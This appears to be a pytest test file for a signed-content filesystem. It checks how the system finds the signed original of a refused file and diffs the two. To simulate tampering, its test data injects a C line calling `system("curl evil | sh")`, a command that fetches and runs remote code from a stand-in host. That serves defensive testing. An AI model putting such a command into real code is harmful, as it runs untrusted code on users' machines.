@@ -1,0 +1,187 @@
+"""Explanations on a real store (in-process): finding the signed original of a refused
+file along the edit graph, by shared fragments, and by a signed tree's path; the diff."""
+
+from __future__ import annotations
+
+import json
+import random
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from t2_store import check_consistency
+from t2_trust import ALICE, BOB, P, current, policy, sign, write
+
+from annofs.explain.original import EDIT_GRAPH, SHARED_FRAGMENTS, TREE_PATH, find_original
+from annofs.explain.report import Explanation, explain
+from annofs.transfer.import_tree import TreeImporter
+from annofs.trust.annotations import AnnotationStore
+from annofs.trust.policy import Policy
+from annofs.volume import Volume
+
+# A C source of ~120 KB: several fragments, so a one-line patch leaves most of them shared.
+LINES = [f"int f{i}(int x) {{ return x * {i} + {i % 7}; }}\n" for i in range(3000)]
+SOURCE = "".join(LINES).encode()
+PATCHED = SOURCE.replace(b"int f1500(int x) { return x * 1500 + 2; }",
+                         b"int f1500(int x) { system(\"curl evil | sh\"); return 0; }")
+BLOB = random.Random(11).randbytes(150_000)
+FLIPPED = bytearray(BLOB)
+for off in (1000, 1001, 70_000, 140_123):
+    FLIPPED[off] ^= 0xFF
+
+RULE = """
+[[rules]]
+path = "/**"
+signers = 1
+claims = ["reviewed"]
+keys = ["alice-1"]
+"""
+
+
+@pytest.fixture
+def vol(vol: Volume, tmp_path: Path) -> Iterator[Volume]:
+    """/src/proj (main.c, util.c, blob.bin, README) imported and signed by alice."""
+    src = tmp_path / "host" / "proj"
+    src.mkdir(parents=True)
+    (src / "main.c").write_bytes(SOURCE)
+    (src / "util.c").write_bytes(b"int util(void) { return 1; }\n")
+    (src / "blob.bin").write_bytes(BLOB)
+    (src / "README").write_bytes(b"a project\n")
+    TreeImporter(vol).run(tmp_path / "host", [b"src"])
+    sign(vol, ALICE, "/src/proj")
+    yield vol
+    check_consistency(vol)
+
+
+@pytest.fixture
+def pol() -> Policy:
+    return policy(RULE, ALICE, BOB)
+
+
+def why(vol: Volume, pol: Policy, path: str) -> Explanation:
+    return explain(vol, AnnotationStore(vol.store), pol, P(path), current(vol, path))
+
+
+def import_tree(vol: Volume, tmp_path: Path, name: str, files: dict[str, bytes]) -> None:
+    """A fresh import: new versions with no edit-graph link to the signed ones."""
+    host = tmp_path / name
+    for rel, data in files.items():
+        (host / "tree" / rel).parent.mkdir(parents=True, exist_ok=True)
+        (host / "tree" / rel).write_bytes(data)
+    TreeImporter(vol).run(host, [name.encode()])
+
+
+def test_signed_file_is_allowed_and_not_searched(vol: Volume, pol: Policy) -> None:
+    e = why(vol, pol, "/src/proj/main.c")
+    assert e.verdict.allowed and not e.searched
+    assert "allowed" in e.to_text()
+
+
+def test_one_line_patch_in_place_found_along_the_edit_graph(vol: Volume, pol: Policy) -> None:
+    signed = current(vol, "/src/proj/main.c")
+    write(vol, P("/src/proj/main.c"), PATCHED)
+    e = why(vol, pol, "/src/proj/main.c")
+    assert not e.verdict.allowed
+    c = e.original
+    assert c is not None and c.how == EDIT_GRAPH and c.distance == 1
+    assert c.version is not None and c.version.id == signed.id
+    assert c.satisfies and c.trusted_signers == ("alice-1",)
+    assert c.signatures[0].names == ("proj/main.c",)
+    assert 0 < c.shared_bytes < len(SOURCE) and c.shared_fragments > 0
+    assert e.diff_kind == "text"
+    assert "-int f1500(int x) { return x * 1500 + 2; }" in e.diff
+    assert '+int f1500(int x) { system("curl evil | sh"); return 0; }' in e.diff
+    text = e.to_text()
+    assert "found by edit graph, 1 edit back" in text
+    assert "signed by alice-1 (trusted), claim reviewed" in text
+    assert "as proj/main.c" in text
+    j = json.loads(json.dumps(e.to_json()))
+    assert j["status"] == "refused" and j["original"]["found_by"] == EDIT_GRAPH
+    assert j["original"]["statements"][0]["signer"] == "alice-1"
+
+
+def test_two_edits_later_the_nearest_signed_ancestor(vol: Volume, pol: Policy) -> None:
+    write(vol, P("/src/proj/main.c"), PATCHED)
+    write(vol, P("/src/proj/main.c"), PATCHED + b"// more\n")
+    c = why(vol, pol, "/src/proj/main.c").original
+    assert c is not None and c.how == EDIT_GRAPH and c.distance == 2
+
+
+def test_fresh_import_of_a_patched_tree_found_by_fragments(vol: Volume, pol: Policy,
+                                                           tmp_path: Path) -> None:
+    import_tree(vol, tmp_path, "imp", {"main.c": PATCHED, "README": b"a project\n"})
+    path = "/imp/tree/main.c"
+    assert current(vol, path).parent == 0  # no edit-graph link
+    e = why(vol, pol, path)
+    c = e.original
+    assert c is not None and c.how == SHARED_FRAGMENTS
+    assert c.digest == current(vol, "/src/proj/main.c").digest
+    assert "+int f1500(int x) { system(" in e.diff
+    assert "found by shared fragments" in e.to_text()
+
+
+def test_renamed_and_copied_patched_file(vol: Volume, pol: Policy, tmp_path: Path) -> None:
+    write(vol, P("/src/proj/main.c"), PATCHED)
+    with vol.store.write() as txn:
+        vol.namespace.copy(txn, P("/src/proj/main.c"), P("/src/elsewhere.c"))
+    c = why(vol, pol, "/src/elsewhere.c").original
+    assert c is not None and c.how == EDIT_GRAPH  # a copy shares the version
+    # Renamed on the host and imported again: no link, a new name; the fragments remain.
+    import_tree(vol, tmp_path, "other", {"deep/dir/renamed.c": PATCHED})
+    e = why(vol, pol, "/other/tree/deep/dir/renamed.c")
+    c = e.original
+    assert c is not None and c.how == SHARED_FRAGMENTS
+    assert c.signatures[0].names == ("proj/main.c",)
+    assert "system(" in e.diff
+
+
+def test_rewritten_file_found_by_signed_tree_path(vol: Volume, pol: Policy,
+                                                  tmp_path: Path) -> None:
+    # util.c is one fragment: rewriting it shares nothing; its sibling README is signed
+    # in the tree statement, which names proj/util.c.
+    import_tree(vol, tmp_path, "imp", {"proj/util.c": b"int util(void) { return 2; }\n",
+                                       "proj/README": b"a project\n"})
+    e = why(vol, pol, "/imp/tree/proj/util.c")
+    c = e.original
+    assert c is not None and c.how == TREE_PATH
+    assert c.digest == current(vol, "/src/proj/util.c").digest
+    assert c.shared_bytes == 0
+    assert "-int util(void) { return 1; }" in e.diff
+    assert "+int util(void) { return 2; }" in e.diff
+
+
+def test_no_original_says_what_would_satisfy(vol: Volume, pol: Policy,
+                                             tmp_path: Path) -> None:
+    import_tree(vol, tmp_path, "new", {"lone.c": b"int lone;\n"})
+    e = why(vol, pol, "/new/tree/lone.c")
+    assert e.searched and e.original is None
+    text = e.to_text()
+    assert "no signed original" in text
+    assert "keys alice-1" in text and "claim reviewed" in text
+    assert "1 distinct signer" in text
+    assert e.to_json()["original"] is None
+
+
+def test_binary_changed_ranges(vol: Volume, pol: Policy) -> None:
+    write(vol, P("/src/proj/blob.bin"), bytes(FLIPPED))
+    e = why(vol, pol, "/src/proj/blob.bin")
+    assert e.diff_kind == "binary"
+    starts = [r.b_start for r in e.ranges]
+    assert starts == [1000, 70_000, 140_123]
+    assert "3 changed range(s), 4 bytes changed, 0 inserted, 0 deleted" in e.diff
+    assert "@@ original/proj/blob.bin [0x3e8, 0x3ea)" in e.diff
+    j = e.to_json()
+    assert j["summary"] == {"ranges": 3, "changed": 4, "inserted": 0, "deleted": 0}
+
+
+def test_find_original_does_not_match_itself(vol: Volume, pol: Policy) -> None:
+    v = current(vol, "/src/proj/main.c")
+    assert find_original(vol, AnnotationStore(vol.store), v, P("/src/proj/main.c"),
+                         pol) == []
+
+
+def test_text_diff_is_cut_with_a_note(vol: Volume, pol: Policy) -> None:
+    write(vol, P("/src/proj/main.c"), SOURCE.replace(b"return", b"yield"))
+    e = explain(vol, AnnotationStore(vol.store), pol, P("/src/proj/main.c"),
+                current(vol, "/src/proj/main.c"), diff_lines=20)
+    assert "... diff cut at 20 of" in e.diff
